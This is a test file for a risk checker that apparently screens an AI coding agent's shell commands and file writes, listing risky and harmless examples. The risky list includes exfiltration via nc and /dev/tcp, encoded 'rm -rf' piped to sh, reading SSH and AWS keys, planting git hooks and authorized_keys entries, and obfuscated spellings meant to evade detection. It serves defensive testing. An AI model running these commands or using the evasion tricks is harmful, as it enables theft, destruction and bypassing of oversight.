import { homedir } from "node:os";
import { expect, test } from "vitest";
import { assessRisk } from "./risk.ts";

const cwd = "/home/ann/shop";
const judge = (command: string) =>
  assessRisk({ tool: "Bash", input: { command }, cwd }).reasons.join("; ");

const RISKY: readonly (readonly [string, string])[] = [
  // Network
  ["curl https://example.com", "network: curl"],
  ["/usr/bin/curl x", "network: curl"],
  ["git push origin main", "network: git push"],
  ["git -C sub push", "network: git push"],
  ["git -c user.name=x fetch", "network: git fetch"],
  ["npm publish --access public", "network: npm publish"],
  ["npm --prefix web install left-pad", "network: npm install"],
  ["pip install requests", "network: pip install"],
  ["pip3.12 install requests", "network: pip install"],
  ["python3 -m pip install x", "network: python3 -m pip"],
  ["docker run --rm alpine", "network: docker"],
  ["npx cowsay", "network: npx"],
  ["rsync -a . me@host:/srv", "network: rsync"],
  ["echo hi > /dev/tcp/1.2.3.4/80", "network: /dev/tcp"],
  ["exec 3<>/dev/tcp/1.2.3.4/80", "network: /dev/tcp"],
  ["cat package.json | nc 1.2.3.4 9", "network: nc"],
  ["ls && (cd src; wget x)", "network: wget"],
  ["echo $(curl x)", "network: curl"],
  ["echo `curl x`", "network: curl"],
  ['echo "a $(curl x) b"', "network: curl"],
  ["diff <(curl x) a", "network: curl"],
  ["cat <<EOF\n$(curl x)\nEOF", "network: curl"],
  ["X=$(curl x) make", "network: curl"],
  ["echo ${A:-$(curl x)}", "network: curl"],
  ["for i in $(curl x); do echo $i; done", "network: curl"],
  ["if curl x; then ls; fi", "network: curl"],
  ["while ! curl x; do sleep 1; done", "network: curl"],
  ["case $x in a) curl x;; esac", "network: curl"],
  ["f() { curl x; }; f", "network: curl"],
  ["function f { curl x; }; f", "network: curl"],
  ["ls\ncurl x", "network: curl"],
  ["ls # quiet\ncurl x", "network: curl"],
  ["ls & curl x", "network: curl"],
  ["! curl x", "network: curl"],
  ["{ curl x; }", "network: curl"],
  ["[ -f a ] || curl x", "network: curl"],
  // Spelled differently
  ["c'ur'l x", "network: curl"],
  ['"curl" x', "network: curl"],
  ["cu\\rl x", "network: curl"],
  ["cu\\\nrl x", "network: curl"],
  ["$'\\x63url' x", "network: curl"],
  ["{curl,x}", "network: curl"],
  ["$CMD x", "name is computed"],
  ["/bin/c?rl x", "name is computed"],
  ["a=rm; $a -rf x", "name is computed"],
  ["c\u0443rl x", "characters that mislead"],
  ["ls \u202Ex", "characters that mislead"],
  // Run by others
  ["sudo ls", "another user: sudo"],
  ["sudo -u www rm x", "deletes or ends: rm"],
  ["env A=1 -u B curl x", "network: curl"],
  ["env -S 'rm -rf x'", "cannot be read"],
  ["A=1 B=2 curl x", "network: curl"],
  ["nohup nice -n 5 curl x &", "network: curl"],
  ["timeout -s KILL 5 curl x", "network: curl"],
  ["time curl x", "network: curl"],
  ["command curl x", "network: curl"],
  ["exec curl x", "network: curl"],
  ["busybox wget x", "network: wget"],
  ["xargs -n 1 rm < list", "deletes or ends: rm"],
  ["find . -name '*.ts' | xargs rm", "deletes or ends: rm"],
  ["find . -exec rm {} \\;", "deletes or ends: rm"],
  ["find . -delete", "find -delete"],
  ["bash -c 'curl x'", "network: curl"],
  ['bash -lc "rm x"', "deletes or ends: rm"],
  ["sh -c 'sh -c \"rm x\"'", "deletes or ends: rm"],
  ['bash -c "$X"', "another command prints"],
  ["bash <<< 'rm x'", "deletes or ends: rm"],
  ["bash <<'EOF'\nrm x\nEOF", "deletes or ends: rm"],
  ["echo cm0gLXJmIH4= | base64 -d | sh", "another command prints"],
  ["cat x | sudo bash -s", "another command prints"],
  ["cat x | python3", "another command prints"],
  ["bash <(cat x)", "another command prints"],
  ["source <(cat x)", "another command prints"],
  ["eval rm x", "deletes or ends: rm"],
  ['eval "$X"', "computed"],
  ["trap 'rm x' EXIT", "deletes or ends: rm"],
  ["python3 -c 'import os'", "given on the line: python3"],
  ["node -r ./x -e 'x'", "given on the line: node"],
  ["perl -pi -e s/a/b/ f", "given on the line: perl"],
  ["awk 'BEGIN{system(\"id\")}'", "given on the line: awk"],
  ["tar xf a.tar --checkpoint-action=exec=id", "given on the line: tar"],
  ["git rebase -x 'make' main", "given on the line: git rebase"],
  // Destruction
  ["rm -rf build", "deletes or ends: rm"],
  ["ls; rm x", "deletes or ends: rm"],
  ["git reset --hard", "git reset"],
  ["git clean -fdx", "git clean"],
  ["git checkout -- .", "git checkout"],
  ["git branch -D old", "git branch"],
  ["dd if=/dev/zero of=disk.img", "deletes or ends: dd"],
  ["kill -9 1", "deletes or ends: kill"],
  ["rsync -a --delete a/ b/", "rsync --delete"],
  // Writing
  ["echo x > /etc/hosts", "outside the session's folder: /etc/hosts"],
  ["echo x >> ../other/a", "outside the session's folder: /home/ann/other/a"],
  ["echo x &> ~/a", "outside the session's folder"],
  ["echo x | tee /tmp/a", "outside the session's folder: /tmp/a"],
  ["cp a /tmp/", "outside the session's folder: /tmp"],
  ["cp -t /tmp a", "outside the session's folder: /tmp"],
  ["mv src/../../x .", "outside the session's folder: /home/ann/x"],
  ["sed -i s/a/b/ /etc/hosts", "outside the session's folder: /etc/hosts"],
  ["mkdir $HOME/x", "outside the session's folder"],
  ["touch /home/ann/shopping", "outside the session's folder: /home/ann/shopping"],
  ["cd / && touch a", "outside the session's folder: /a"],
  ["cd .. ; echo > a", "outside the session's folder: /home/ann/a"],
  ['cd "$X" && touch a', "folder is not known"],
  ['echo x > "$F"', "place that is computed"],
  ["ln -s a /usr/local/bin/a", "outside the session's folder"],
  ["chmod +x ~/bin/a", "outside the session's folder"],
  ["tar xf a.tar -C /opt", "outside the session's folder: /opt"],
  ["echo x > .git/hooks/pre-commit", "what git runs"],
  ["cp a .GIT/hooks/post-merge", "what git runs"],
  ["git config core.hooksPath x", "what git runs"],
  ["git -c core.sshCommand=x status", "what git runs"],
  ["git config --global user.name x", "git's own settings"],
  ["echo x > .claude/settings.json", "agent's own settings"],
  ["echo x >> ~/.zshrc", "shell runs at its start"],
  ["echo x >> ~/.ssh/authorized_keys", "keys or logins"],
  ["PATH=/tmp:$PATH make", "what programs run: PATH"],
  ["export LD_PRELOAD=./x.so", "what programs run: LD_PRELOAD"],
  ["alias ls=./x", "what programs run: alias"],
  ["cat ~/.ssh/id_ed25519", "reads keys"],
  ["cat < ~/.aws/credentials", "reads keys"],
  // Not to be read
  ["echo 'x", "cannot be read"],
  ["echo $(ls", "cannot be read"],
  ["cat <<EOF\nx", "cannot be read"],
  ["echo )", "cannot be read"],
  [`${"$(".repeat(60)}ls${")".repeat(60)}`, "cannot be read"],
];

test.each(RISKY)("risky: %s", (command, reason) => {
  expect(judge(command)).toContain(reason);
});

const HARMLESS: readonly string[] = [
  "ls -la",
  "git status && git diff --stat | head -20",
  "git log --oneline -5 --format='%h %s'",
  'git commit -m "remove curl; rm old files (see #3)"',
  "git add -A && git commit -q -m 'x'",
  "git checkout -b feature",
  "git config --get user.name",
  "npm test",
  "npm run build -- --watch",
  "npm ls",
  "npx --version".replace("npx", "node"),
  "node script.js -e prod",
  "node --test test/a.test.js",
  "python3 manage.py -c x",
  "python3 -m pytest -q",
  "pytest -k 'not slow'",
  "cargo build --release && cargo test",
  "make -j4 test 2>&1 | tail -50",
  "go test ./...",
  "tsc --noEmit -p .",
  "grep -rn 'rm -rf' src | wc -l",
  "rg \"curl .*\" --glob '!node_modules'",
  "find . -name '*.ts' -not -path './node_modules/*' | xargs wc -l",
  "find . -type f -exec grep -l x {} +",
  "sed -n 1,20p a.ts",
  "sed -i s/a/b/ src/a.ts",
  "cat package.json | jq '.scripts'",
  "awk '{print $1}' a.txt | sort | uniq -c",
  "echo hi > out.txt",
  "echo hi > /home/ann/shop/out.txt",
  "echo hi > /dev/null 2>&1",
  "mkdir -p src/new && touch src/new/a.ts",
  "cp src/a.ts src/b.ts",
  "cd src && touch a.ts",
  "cd src && cd .. && mkdir x",
  'for f in src/*.ts; do echo "$f"; done',
  'while read -r line; do echo "$line"; done < in.txt',
  "if [[ -f a && ! -d b ]]; then cat a; fi",
  "case $1 in a|b) ls;; *) pwd;; esac",
  'x=$(git rev-parse HEAD) && echo "$x"',
  "a=(1 2 3); echo ${#a[@]} $((1 + 2))",
  "cat <<'EOF' > notes.md\n# curl and $(rm x)\nEOF",
  "bash scripts/build.sh --fast",
  "bash -c 'ls | wc -l'",
  "env FOO=1 npm test",
  "timeout 60 npm test",
  "time make",
  "echo 'Grüße, мир, 世界 👍'",
  "test -f a && echo yes || echo no",
  "tar czf out.tgz src",
  "diff <(sort a) <(sort b)",
];

test.each(HARMLESS)("not risky: %s", (command) => {
  expect(judge(command)).toBe("");
});

const file = (tool: string, path: string, where = cwd) =>
  assessRisk({ tool, input: { file_path: path, notebook_path: path }, cwd: where }).reasons.join(
    "; ",
  );

test("a tool that writes is risky outside the session's folder, after ~ and .. are resolved", () => {
  expect(file("Write", "/home/ann/shop/src/a.ts")).toBe("");
  expect(file("Edit", "src/a.ts")).toBe("");
  expect(file("NotebookEdit", "/home/ann/shop/../x.ipynb")).toContain("/home/ann/x.ipynb");
  expect(file("Write", "/home/ann/shop2/a")).toContain("outside");
  expect(file("Write", "~/a")).toContain(homedir());
  expect(file("Write", "~other/a")).toContain("outside");
  expect(file("Write", "/a", "")).toContain("not known");
});

test("a tool that writes is risky in places that decide what runs later", () => {
  for (const path of [
    ".git/hooks/pre-push",
    ".git/config",
    ".claude/settings.local.json",
    ".mcp.json",
    ".husky/pre-commit",
    ".envrc",
    ".github/workflows/ci.yml",
    "sub/.vscode/tasks.json",
  ])
    expect(file("Write", `/home/ann/shop/${path}`), path).not.toBe("");
  // The session's own folder may lie in such a place.
  expect(
    file("Write", "/home/ann/.claude/worktrees/x/src/a.ts", "/home/ann/.claude/worktrees/x"),
  ).toBe("");
});

test("reading keys is risky, reading code is not", () => {
  expect(file("Read", "/home/ann/.ssh/id_rsa")).toContain("keys");
  expect(file("Read", "/home/ann/.ssh/id_rsa.pub")).toBe("");
  expect(file("Read", "/etc/hosts")).toBe("");
});

test("a plan is risky, a question is not, and what names no command is", () => {
  expect(assessRisk({ tool: "ExitPlanMode", input: { plan: "x" }, cwd }).isRisky).toBe(true);
  expect(assessRisk({ tool: "AskUserQuestion", input: {}, cwd }).isRisky).toBe(false);
  expect(assessRisk({ tool: "Bash", input: {}, cwd }).isRisky).toBe(true);
  expect(assessRisk({ tool: "Write", input: {}, cwd }).isRisky).toBe(true);
  expect(
    assessRisk({ tool: "Bash", input: { command: "ls", dangerouslyDisableSandbox: true }, cwd })
      .isRisky,
  ).toBe(true);
});

test("hostile commands of a hundred thousand characters are judged at once", () => {
  for (const unit of [
    "$(",
    "`",
    "'",
    '"',
    "{",
    "((",
    "<<A\n",
    "$'",
    "a|",
    "\\",
    "case x in ",
    "a=(",
    "${",
  ])
    expect(judge(unit.repeat(100_000 / unit.length))).toBeDefined();
  expect(judge("a".repeat(100_001))).toContain("cannot be read");
}, 30_000);
